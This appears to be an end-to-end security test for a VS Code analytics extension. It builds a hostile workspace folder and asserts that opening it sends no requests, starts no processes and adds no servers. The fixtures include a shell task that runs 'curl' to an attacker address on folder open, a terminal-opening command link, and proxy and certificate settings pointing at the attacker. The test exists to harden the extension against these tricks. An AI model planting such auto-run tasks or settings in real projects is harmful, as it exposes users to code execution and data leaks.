import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DocumentEditor } from '../../support/workbench/documentEditor.ts';
import { figure } from '../../support/run/figure.ts';
import { keptTexts, placesOf } from '../../support/keptText.ts';
import { startServer, type TestServer } from '../../support/server.ts';
import { waitFor } from '../../support/waitFor.ts';
import { openWorkbench, type Workbench } from '../../support/workbench/workbench.ts';
import { addServer } from '../../support/workbench/addServer.ts';

/** What somebody puts into a folder who wants the extension to run something, send something or believe something. */
function hostileFiles(address: string): Record<string, object> {
  const link = `[click](command:workbench.action.terminal.new) ![x](${address}/image.png) <img src="${address}/tag.png">`;
  const server = {
    id: 'evil',
    name: 'Evil',
    kind: 'remote',
    apiBase: `${address}/api`,
    userName: 'admin',
    isGuest: true,
  };
  const certificate = { certificate: `${address}/client.pem`, key: '/etc/passwd' };
  return {
    '.vscode/settings.json': {
      'analytics.network.extraCaFile': '/nowhere/hostile-authorities.pem',
      'analytics.network.clientCertificates': { [address]: certificate, '127.0.0.1': certificate },
      'analytics.session.keepAlive': true,
      'analytics.tree.folderScopes': false,
      'analytics.export.details': true,
      'analytics.localServer.databaseFolders': ['/'],
      'analytics.localServer.allowOldEngines': true,
      'analytics.servers': [server],
      'analytics.apiBase': `${address}/api`,
      'files.autoSave': 'afterDelay',
      'http.proxy': address,
      'task.allowAutomaticTasks': 'on',
    },
    '.vscode/tasks.json': {
      version: '2.0.0',
      tasks: [
        {
          label: 'evil',
          type: 'shell',
          command: `curl ${address}/task`,
          runOptions: { runOn: 'folderOpen' },
          args: ['${command:analytics.server.startLocal}', '${command:analytics.server.signIn}'],
        },
      ],
    },
    '.vscode/extensions.json': { recommendations: [`${address}/evil.vsix`] },
    'evil.user.json': {
      $schema: `${address}/schema.json`,
      ID: '1',
      LoginName: link,
      UserPassword: 'typed',
      GroupId: '7',
    },
    'evil.policy.json': {
      $schema: `${address}/schema.json`,
      id: '1',
      Name: link,
      Description: `${address}/description`,
      isActive: true,
      Constraints: [{ ModuleID: '1', TableName: link, ColumnName: 'x', Operator: '=', Value: '/#state#/' }],
    },
    'evil.report.json': { ReportID: '1', ReportName: link, Folder: { fid: '1' }, Description: link },
  };
}

describe('a folder of somebody hostile', () => {
  let attacker: Server;
  let address: string;
  let folder: string;
  let server: TestServer;
  const visits: string[] = [];

  beforeAll(async () => {
    attacker = createServer((request, response) => {
      visits.push(`${request.method} ${request.url}`);
      response.writeHead(200, { 'content-type': 'application/json' }).end('{}');
    });
    // A tunnel through a hostile proxy is a visit, too.
    attacker.on('connect', (request, socket) => {
      visits.push(`CONNECT ${request.url}`);
      socket.destroy();
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    address = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    folder = await mkdtemp(path.join(tmpdir(), 'analytics-hostile-'));
    await mkdir(path.join(folder, '.vscode'));
    for (const [name, content] of Object.entries(hostileFiles(address))) {
      await writeFile(path.join(folder, name), JSON.stringify(content, null, 2));
    }
    server = await startServer({ allowOrigin: 'none' });
  });
  afterAll(async () => {
    await new Promise<void>((resolve) => void attacker.close(() => resolve()));
    await rm(folder, { recursive: true, force: true });
    await server.stop();
  });

  describe.each([
    { trust: 'that is not trusted', distrusts: true },
    { trust: 'that is trusted', distrusts: false },
  ])('$trust', ({ trust, distrusts }) => {
    let opened: Workbench;
    beforeAll(async () => {
      visits.length = 0;
      opened = await openWorkbench({ theme: 'dark', folder, distrusts });
    });
    afterAll(() => opened.stop());

    it('S2: starts nothing of ours, sends nothing and changes nothing', async () => {
      const editor = new DocumentEditor(opened);
      if (distrusts) await opened.page.locator('.statusbar-item', { hasText: 'Restricted Mode' }).waitFor();
      await opened.openContainer('Analytics');
      await opened.page.getByText('Already have a server?').first().waitFor();
      for (const name of ['evil.report.json', 'evil.policy.json', 'evil.user.json']) {
        await opened.page.keyboard.press('Control+p');
        await opened.page.locator('.quick-input-widget:visible input').fill(name);
        await opened.quickPickChoose(name);
        await editor.shows('command:workbench.action.terminal.new');
        // What language help says of a text is plain text: its links do nothing.
        const text = editor.lines.getByText('command:workbench.action.terminal.new').first();
        await text.hover();
      }
      // Something of ours did run: the hints about these texts.
      await waitFor(
        'the notes about the texts',
        async () => (await opened.page.locator('.squiggly-error, .squiggly-warning').count()) > 0,
      );
      await opened.screenshot(`hostile-${distrusts ? 'restricted' : 'trusted'}`);

      // Signing in elsewhere takes nothing from the folder along either.
      await addServer(opened, { url: server.url, password: server.adminPassword });
      await opened.treeItem('Library').first().waitFor();
      expect(await opened.treeItem('Evil').count()).toBe(0);
      expect(opened.consoleLines.filter((line) => line.includes('hostile-authorities'))).toEqual([]);
      expect(await opened.page.locator('.notification-toast', { hasText: 'hostile-authorities' }).count()).toBe(0);
      expect(await opened.page.locator('.terminal-wrapper').count()).toBe(0);
      const kept = await keptTexts(opened);
      const started = kept.filter(({ place, content }) => place.startsWith('process') && content.includes('--sample'));
      expect(started.map(({ place }) => place)).toEqual([]);
      expect(placesOf('local-server', kept).filter((place) => place.includes('globalStorage'))).toEqual([]);
      // In a folder that is trusted, the editor's own JSON support reads the schema that a file names.
      const ours = visits.filter((visit) => distrusts || visit !== 'GET /schema.json');
      expect(ours).toEqual([]);
      figure('S2', `a hostile folder ${trust}: ${ours.length} requests, ${started.length} processes`);
    });
  });
});
